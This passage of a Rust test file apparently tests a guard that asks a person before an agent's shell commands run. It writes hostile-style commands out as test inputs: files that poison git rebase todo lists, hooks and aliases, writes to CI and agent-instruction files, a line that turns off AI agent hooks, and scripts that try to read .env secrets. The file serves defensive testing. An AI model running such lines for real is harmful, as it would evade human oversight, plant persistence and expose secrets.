    (".vscode/settings.json", "npm --silent --prefix . run go", ""),
    (".devcontainer/devcontainer.json", "bash go", "install -D a.txt .devcontainer/devcontainer.json"),
    (".idea/workspace.xml", "ruby go", "Dir.mkdir('.idea'); File.write('.idea/workspace.xml', 'x')"),
    ("mise.toml", "bash go", "sed -n 'w mise.toml' a.txt"),
    (".exrc", "awk -f go", "BEGIN { print \"x\" > \".exrc\" }"),
    ("CLAUDE.md", "bash go", "ln a.txt CLAUDE.md"),
    ("AGENTS.md", "bash go", "ln -s a.txt AGENTS.md"),
    ("deep/er/GEMINI.md", "bash go", "mkdir -p deep/er; truncate -s 3 deep/er/GEMINI.md"),
    (".cursorrules", "bash go", "dd if=a.txt of=.cursorrules status=none"),
    (".mcp.json", "bash go", "rsync a.txt .mcp.json"),
    (".github/workflows/x.yml", "bash go", "mkdir -p t/workflows; cp a.txt t/workflows/x.yml; mv t .github"),
    (
        ".github/copilot-instructions.md",
        "bash go",
        "mkdir .github; tee .github/copilot-instructions.md < a.txt",
    ),
    (".gitlab-ci.yml", "bash go", "(umask 0; exec 3> .gitlab-ci.yml; echo x >&3)"),
    ("Jenkinsfile", "bash go", "find . -name a.txt -exec cp {} Jenkinsfile \\;"),
    (".pre-commit-config.yaml", "bash go", "paste a.txt a.txt > .pre-commit-config.yaml"),
    (
        ".husky/pre-push",
        "python3 go",
        "import os, shutil\nos.mkdir('.husky'); shutil.copy('a.txt', '.husky/pre-push')",
    ),
    (".hg/hgrc", "python3 go", "import os\nos.mkdir('.hg'); os.link('a.txt', '.hg/hgrc')"),
    // Whether the guard is asked is not a person's to decide by the way.
    (
        ".claude/settings.json",
        "bash go",
        "mkdir .claude; echo '{\"disableAllHooks\": true}' > .claude/settings.json",
    ),
    (
        ".codex/config.toml",
        "python3 go",
        "import os\nos.mkdir('.codex'); open('.codex/config.toml', 'w').write('x')",
    ),
];

/// After a yes to a line that reaches other machines, what it changes in guarded places that the words do not name is asked about
/// before it is done. All of it can be undone.
#[test]
fn an_approved_line_with_a_network_changes_no_guarded_place_unasked() {
    const PLACES: &[&str] = &[
        ".git/config",
        ".git/hooks/pre-commit",
        ".git/info/attributes",
        ".envrc",
        ".vscode/tasks.json",
        ".idea/runConfigurations/x.xml",
        "CLAUDE.md",
        "sub/AGENTS.md",
        ".mcp.json",
        ".github/workflows/x.yml",
        ".gitlab-ci.yml",
        ".husky/pre-push",
        "tools/hooks/pre-commit",
    ];
    let port = here();
    let scene = Project::with("workspace", "[language]\ndefault = \"en\"\n");
    let git = |words: &str| {
        let done = std::process::Command::new("git").args(words.split(' ')).current_dir(&scene.work).status();
        assert!(done.unwrap().success(), "{words}");
    };
    git("init -q .");
    git("config core.hooksPath tools/hooks");
    std::fs::write(scene.work.join(".env"), "KEY=SECRET\n").unwrap();
    let fetch = format!("curl -s -m 20 -o got http://127.0.0.1:{port}/");
    let config = scene.read(".git/config");
    std::fs::write(
        scene.work.join("package.json"),
        r#"{"scripts": {"go": "mkdir .vscode; echo {} > .vscode/settings.json"}}"#,
    )
    .unwrap();
    let python = |place: &str| {
        let parts = place.split('/').map(|part| format!("'{part}'")).collect::<Vec<_>>().join(",");
        format!(
            "import os\npath = os.path.join('.', {parts})\nos.makedirs(os.path.dirname(path), exist_ok=True)\nopen(path, 'a').write('x')\n"
        )
    };
    let plain = PLACES.iter().map(|place| (*place, "python3 go", python(place)));
    for (place, program, script) in
        plain.chain(GUARDED.iter().map(|(place, by, go)| (*place, *by, (*go).to_owned())))
    {
        let said = format!("{place} by {program}: {script}");
        std::fs::write(scene.work.join("go"), script).unwrap();
        let reply = std::thread::scope(|scope| {
            let running = scope.spawn(|| scene.act_line(&format!("{fetch} && {program}")));
            let words = scene.service.question();
            assert_eq!(scene.service.answer(&words, "yes").status, 200);
            let effects = wait(&said, || {
                let asked = scene.service.questions().into_iter().find(|question| *question != words);
                asked.map(Some).or_else(|| running.is_finished().then_some(None))
            });
            if let Some(effects) = effects {
                let shown = scene.service.get(&format!("/v1/questions/{effects}"));
                let shown = shown.token(&scene.service.approve).send().json();
                assert!(shown["effects"].to_string().contains(place), "{said}: {shown}");
                assert_eq!(scene.service.answer(&effects, "no").status, 200);
            }
            running.join().unwrap()
        });
        let never = place.starts_with(".claude/") || place.starts_with(".codex/");
        assert_eq!(reply["outcome"], json!(if never { "blocked" } else { "denied" }), "{said}: {reply}");
        assert!(place == ".git/config" || !scene.work.join(place).exists(), "{said}");
        assert_eq!(
            (scene.read(".git/config"), scene.work.join("got").exists()),
            (config.clone(), false),
            "{said}"
        );
    }
    // What it does where it works needs no second question, is a person's deed, and can be undone.
    let (_, reply) = scene.asked_line(&format!("{fetch} && touch new && rm a.txt"), "yes");
    assert_eq!((&reply["outcome"], &reply["decided_by"]), (&json!("done"), &json!("person:http")), "{reply}");
    assert!(reply["undo"]["until"].is_string(), "{reply}");
    assert_eq!((scene.read("got").as_deref(), scene.work.join("a.txt").exists()), (Some("here\n"), false));
    // So does a guarded place that the words name.
    let (_, reply) = scene.asked_line(&format!("{} .envrc", fetch.replace(" -o got", " -o .envrc")), "yes");
    assert_eq!(reply["outcome"], json!("done"), "{reply}");
    assert_eq!(scene.read(".envrc").as_deref(), Some("here\n"), "{reply}");
    // A secret of the project stays hidden; a program that fails for want of it is asked about with its name.
    let (first, reply) = scene.asked_line(&format!("{fetch} && (cat .e* || true)"), "yes");
    assert!(!reply.to_string().contains("SECRET"), "{first} {reply}");
}

/// A rebase, a cherry-pick or a bisection that stops half-way leaves notes of its own, and goes on later. What is left to run is
/// asked about, whoever wrote it, and so is what git's configuration names.
#[test]
fn git_goes_on_by_itself() {
    let scene = diverged();
    let todo = |name: &str| scene.read(&format!(".git/{name}")).is_some();
    for (line, left) in [
        ("git rebase main", Some("rebase-merge/git-rebase-todo")),
        ("git status --short; git diff | head -3", Some("rebase-merge/git-rebase-todo")),
        (
            "echo 9 > f && git add f && GIT_EDITOR=true git rebase --continue",
            Some("rebase-merge/git-rebase-todo"),
        ),
        ("git rebase --abort", None),
        ("git cherry-pick main~1 main", Some("sequencer/todo")),
        ("git cherry-pick --abort", None),
        ("git revert --no-edit HEAD~1 HEAD~2", Some("sequencer/todo")),
        ("git revert --abort", None),
        ("git bisect start HEAD HEAD~2 && git bisect bad && git bisect reset", None),
        ("echo x >> f; git stash; git stash pop; git checkout -q f", None),
        ("git merge main", None),
        ("git merge --abort", None),
        ("git rebase main", Some("rebase-merge/git-rebase-todo")),
    ] {
        let reply = scene.act_line(line);
        assert_eq!(reply["decided_by"], json!("policy"), "{line}: {reply}");
        for name in ["rebase-merge/git-rebase-todo", "sequencer/todo"] {
            assert_eq!(todo(name), left == Some(name), "{line}: {name} {reply}");
        }
    }
}

/// A repository with two branches that conflict, whose configuration names files of the tree.
fn diverged() -> Project {
    let scene = Project::with("workspace", "[language]\ndefault = \"en\"\n");
    let made = "git init -q -b main . && git config user.name a && git config user.email a@b && git config core.hooksPath tools/hooks && \
                git config filter.x.clean ./scripts/clean && git config include.path ../.gitextra && \
                git add . && git commit -qm one && for n in 2 3 4; do echo $n > f && git add f && git commit -qm $n; done && \
                git checkout -q -b side main~2 && for n in 5 6 7; do echo $n > f && git add f && git commit -qm $n; done";
    let mut setup = std::process::Command::new("bash");
    assert!(setup.args(["-c", made]).current_dir(&scene.work).status().unwrap().success());
    scene
}

#[test]
fn git_takes_no_orders() {
    const ORDERS: &[&str] = &[
        "echo 'exec touch x' >> .git/rebase-merge/git-rebase-todo",
        "sed -i '1i x touch x' .git/rebase-merge/git-rebase-todo",
        "python3 -c \"open('.git/' + 'rebase-merge/git-rebase-todo', 'a').write('exec ./x')\"",
        "mkdir -p .git/sequencer && printf 'exec touch x\\n' > .git/sequencer/todo",
        "mkdir -p tools/hooks && echo x > tools/hooks/pre-commit",
        "mkdir -p t/hooks && touch t/hooks/x && mv t tools",
        "mkdir scripts && echo x > scripts/clean",
        "printf '[alias]\\n\\tst = !x\\n' > .gitextra",
        "echo x > .git/something",
        "mkdir .git/info/x && touch .git/info/x/y; echo '* filter=x' > .git/info/attributes",
        "mkdir .hg && echo '[hooks]' > .hg/hgrc",
        "mkdir -p .jj/repo && echo x > .jj/repo/config.toml",
    ];
    // More refusals in a row are no questions any more.
    for lines in ORDERS.chunks(6) {
        let scene = diverged();
        scene.act_line("git rebase main");
        for line in lines {
            let (question, reply) = scene.asked_line(line, "no");
            assert!(question["effects"].is_object(), "{line}: {question}");
            assert_eq!(reply["outcome"], json!("denied"), "{line}: {reply}");
        }
    }
}

/// A line that acts on the machine itself changes files at once. Guarded places that are there stay as they are, whatever writes to them,
/// and secrets that the question did not name stay hidden.
#[test]
fn an_approved_line_that_cannot_be_held_back_only_reads_guarded_places() {
    let scene = Project::with("workspace", "[language]\ndefault = \"en\"\n");
    let git = std::process::Command::new("git").args(["init", "-q", "."]).current_dir(&scene.work).status();
    assert!(git.unwrap().success());
    let there = [
        ".git/config",
        ".git/hooks/pre-commit",
        ".envrc",
        ".vscode/tasks.json",
        "CLAUDE.md",
        ".github/workflows/x.yml",
    ];
    for path in there {
        std::fs::create_dir_all(scene.work.join(path).parent().unwrap()).unwrap();
        std::fs::write(scene.work.join(path), "[core]\n").unwrap();
    }
    std::fs::write(scene.work.join(".env"), "KEY=SECRET\n").unwrap();
    let script = "import os, shutil, sys\n\
        def tried(what):\n\
        \x20   try: what(); print('done', what.__name__)\n\
        \x20   except OSError: pass\n\
        for path in sys.stdin.read().split():\n\
        \x20   def append(): open(path, 'a').write('x')\n\
        \x20   def remove(): os.remove(path)\n\
        \x20   def rename(): os.rename(path, path + '2')\n\
        \x20   def replace(): open('new', 'w').write('x'); os.replace('new', path)\n\
        \x20   for what in [append, remove, rename, replace]: tried(what)\n\
        def folder(): os.rename('.git', '.git2')\n\
        def hook(): open('.git/hooks/post-commit', 'w').write('x')\n\
        def pipeline(): open('.github/workflows/y.yml', 'w').write('x')\n\
        def secret(): print(open('.env').read())\n\
        for what in [folder, hook, pipeline, secret]: tried(what)\n\
        os.makedirs('dist/a', exist_ok=True)\n\
        open('dist/a/b', 'w').write('built')\n\
        open('made', 'w').write('new')\n";
    std::fs::write(scene.work.join("y.py"), script).unwrap();
    std::fs::write(scene.work.join("list"), there.join("\n")).unwrap();
    let line = "pkill -0 none_has_it; python3 y.py < list";
    let (question, reply) = scene.asked_line(line, "yes");
    assert_eq!(
        (&reply["outcome"], &reply["run"]["way"]),
        (&json!("done"), &json!("act")),
        "{question} {reply}"
    );
    assert!(!reply["output"]["stdout"].as_str().unwrap().contains("done"), "{reply}");
    assert!(!reply.to_string().contains("SECRET"), "{reply}");
    for path in there {
        assert_eq!(scene.read(path).as_deref(), Some("[core]\n"), "{path}: {reply}");
    }
    assert_eq!(
        (scene.read("made").as_deref(), scene.read("dist/a/b").as_deref()),
        (Some("new"), Some("built")),
        "{reply}"
    );
    // What the words name is meant.
    let (_, reply) = scene.asked_line("pkill -0 none_has_it; echo x >> .envrc", "yes");
    assert_eq!(scene.read(".envrc").as_deref(), Some("[core]\nx\n"), "{reply}");
    // Nobody could be asked when a server misses it.
    let question = scene.asked_line("python3 -m http.server 0", "no").0;
    let prompt = question["prompt"].to_string();
    assert!(
        prompt.contains("can be reached on port ") && prompt.contains(", and can read .env"),
        "{question}"
    );
}

/// Where nobody listens, a client fails as it would without the guard, and the reason stands at the end of its errors.
#[test]
fn a_port_where_nobody_listens_is_no_answer() {
    let scene = Project::new("workspace");
    let port = free_port();
    let line = format!("curl -s http://127.0.0.1:{port}/x; echo ended with $?");
    let (_, reply) = scene.asked_line(&line, "yes");
    let (out, errors) = (&reply["output"]["stdout"], reply["output"]["stderr"].as_str().unwrap());
    assert!(out.as_str().unwrap().starts_with("ended with ") && out != "ended with 0\n", "{reply}");
    assert!(errors.contains(&format!("guarda: 127.0.0.1:{port}: it cannot be reached")), "{reply}");
}
